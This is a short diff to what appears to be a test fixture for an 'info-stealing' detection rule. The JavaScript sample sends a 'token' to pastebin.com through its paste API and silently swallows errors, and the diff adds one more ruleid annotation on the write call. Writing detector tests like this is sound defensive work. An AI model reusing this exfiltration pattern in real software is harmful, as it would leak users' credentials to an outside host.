@@ -19,5 +19,6 @@ const body = 'api_option=paste&api_paste_code=' + encodeURIComponent(token);
 // ruleid: code/info-stealing
 const req = https.request({ hostname: 'pastebin.com', path: '/api/api_post.php', method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded' } });
 req.on('error', () => {});
+// ruleid: code/info-stealing
 req.write(body);
 req.end();
